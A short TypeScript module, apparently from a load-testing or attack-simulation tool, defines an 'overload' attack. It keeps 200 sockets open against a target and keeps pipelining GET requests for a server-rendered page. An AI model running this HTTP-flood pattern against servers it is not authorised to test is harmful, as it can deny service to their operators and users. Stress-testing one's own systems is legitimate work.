import type { Attack } from '../attack.ts'
import { head, keepSockets } from '../sockets.ts'

const PIPELINED = 20
const page = head('GET /pagina-principal', { Accept: 'text/html' })

/** 200 connections with 20 requests each for a page that the server renders. */
export const overload: Attack = (target) =>
  keepSockets(target, {
    sockets: 200,
    begin: (socket) => socket.write(page.repeat(PIPELINED)),
    answered: (socket, answers) => socket.write(page.repeat(answers)),
  })
